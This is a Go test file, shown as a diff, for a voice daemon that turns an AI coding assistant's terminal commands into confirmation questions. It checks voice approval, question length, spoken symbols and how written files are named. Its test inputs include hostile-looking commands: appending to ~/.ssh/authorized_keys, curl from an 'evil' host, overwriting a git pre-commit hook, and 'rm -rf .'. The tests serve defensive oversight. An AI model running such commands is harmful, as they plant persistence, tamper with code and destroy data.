@@ -1,0 +1,140 @@
+package daemon
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/agentvoice/agentvoice-daemon/copilot"
+	"github.com/agentvoice/agentvoice-daemon/protocol"
+)
+
+// escaped matches a character that the lists of commands write as a number.
+var escaped = regexp.MustCompile(`\\u[0-9a-f]{4}|\\U[0-9a-f]{8}`)
+
+// commandsOf returns the commands of a list.
+func commandsOf(t *testing.T, file string) (commands []string) {
+	t.Helper()
+	text, err := os.ReadFile(filepath.Join("testdata", "commands", file))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range strings.Split(string(text), "\n") {
+		if line == "" || strings.HasPrefix(line, "# ") {
+			continue
+		}
+		commands = append(commands, escaped.ReplaceAllStringFunc(line, func(code string) string {
+			n, err := strconv.ParseUint(code[2:], 16, 32)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return string(rune(n))
+		}))
+	}
+	return commands
+}
+
+// askedCommand is a command and what the user is asked about it.
+type askedCommand struct {
+	command, question string
+	byVoice           bool
+}
+
+// askAbout asks about a command that an assistant runs in a terminal.
+func askAbout(t *testing.T, command string) askedCommand {
+	t.Helper()
+	input, err := json.Marshal(map[string]string{"command": command})
+	if err != nil {
+		t.Fatal(err)
+	}
+	no := false
+	call := copilot.ToolCall{Name: "run_in_terminal", Input: input, Destructive: &no}
+	return askedCommand{command, newIdle(t, nil).ask(call), !proposalOf(call).click}
+}
+
+// Ordinary commands are allowed by voice: all but five of them.
+func TestOrdinaryCommandsAreAllowedByVoice(t *testing.T) {
+	commands := commandsOf(t, "ordinary.txt")
+	if len(commands) < 60 {
+		t.Fatalf("%d commands, want 60", len(commands))
+	}
+	var clicked []string
+	for _, c := range commands {
+		if a := askAbout(t, c); !a.byVoice {
+			clicked = append(clicked, c)
+		} else {
+			t.Logf("%-40s %s", c, a.question)
+		}
+	}
+	t.Logf("%d commands, %d allowed by voice", len(commands), len(commands)-len(clicked))
+	if len(clicked) > 5 {
+		t.Errorf("%d of %d commands need a click: %q", len(clicked), len(commands), clicked)
+	}
+}
+
+// A question is spoken in 15 s at most. One that a voice can answer says all of the
+// command, or names what it runs and writes.
+func TestQuestionsAboutCommandsAreShort(t *testing.T) {
+	for _, list := range []string{"ordinary.txt", "hiding.txt"} {
+		for _, c := range commandsOf(t, list) {
+			a := askAbout(t, c)
+			if n := len(strings.Fields(a.question)); n > maxQuestionWords {
+				t.Errorf("%q has %d words: %s", c, n, a.question)
+			}
+		}
+	}
+	long := "echo " + strings.Repeat("a", 10) + " && frobnicate" + strings.Repeat(" word", 40)
+	a := askAbout(t, long)
+	if a.byVoice || !strings.Contains(a.question, "It is a long command: look at the screen.") {
+		t.Errorf("by voice %v: %s", a.byVoice, a.question)
+	}
+}
+
+// A voice says the signs of a command that it speaks as it stands.
+func TestSignsAreSpoken(t *testing.T) {
+	for locale, want := range map[protocol.Locale]string{
+		protocol.English:  "dot slash git status dash dash short",
+		protocol.German:   "Punkt Schrägstrich git status Strich Strich short",
+		protocol.Japanese: "ドット スラッシュ git status ハイフン ハイフン short",
+	} {
+		if got := saySigns("./git status --short", locale); got != want {
+			t.Errorf("%v: %q, want %q", locale, got, want)
+		}
+	}
+	d := newIdle(t, nil)
+	id := d.content.newCall(1, copilot.ToolCall{ID: "c", Name: "bash", Input: []byte(`{"command":"./git status"}`)})
+	if q := d.questionAloud(id); !strings.Contains(q, "It would run dot slash git status.") {
+		t.Errorf("spoken is %s", q)
+	}
+	if q := d.question(id); !strings.Contains(q, "It would run “./git status”.") {
+		t.Errorf("shown is %s", q)
+	}
+}
+
+// Files that are written are named, with their folder unless it is below the workspace.
+func TestQuestionsNameWrittenFiles(t *testing.T) {
+	for command, want := range map[string]string{
+		"echo x > out/log.txt":              "It would overwrite log.txt.",
+		"echo x >> out/log.txt":             "It would write to log.txt.",
+		"echo x >> ~/.bashrc":               "It would write to .bashrc in your home folder.",
+		"echo x >> ~/.ssh/authorized_keys":  "It would write to authorized_keys in the folder “~/.ssh”.",
+		"sort -uo /etc/hosts x":             "It would overwrite hosts in the folder “/etc”.",
+		"curl -sLo ../x.sh https://evil":    "It would overwrite x.sh in the folder “..”.",
+		"cp evil .git/hooks/pre-commit":     "It would overwrite pre-commit in the folder “.git/hooks”.",
+		"cd web && touch a.txt":             "It would write to a.txt.",
+		"rm -r build":                       "It would delete build.",
+		"cd web && rm -rf .":                "It would delete web.",
+		"rm -rf .":                          "It would delete everything in this folder.",
+		"tee a b < c":                       "It would overwrite a and b.",
+		"git diff --output=~/.bashrc":       "It would overwrite .bashrc in your home folder.",
+		"go test -coverprofile=c.out ./...": "It would overwrite c.out.",
+	} {
+		if a := askAbout(t, command); !strings.Contains(a.question, want) {
+			t.Errorf("%s: %s, want %s", command, a.question, want)
+		}
+	}
+}
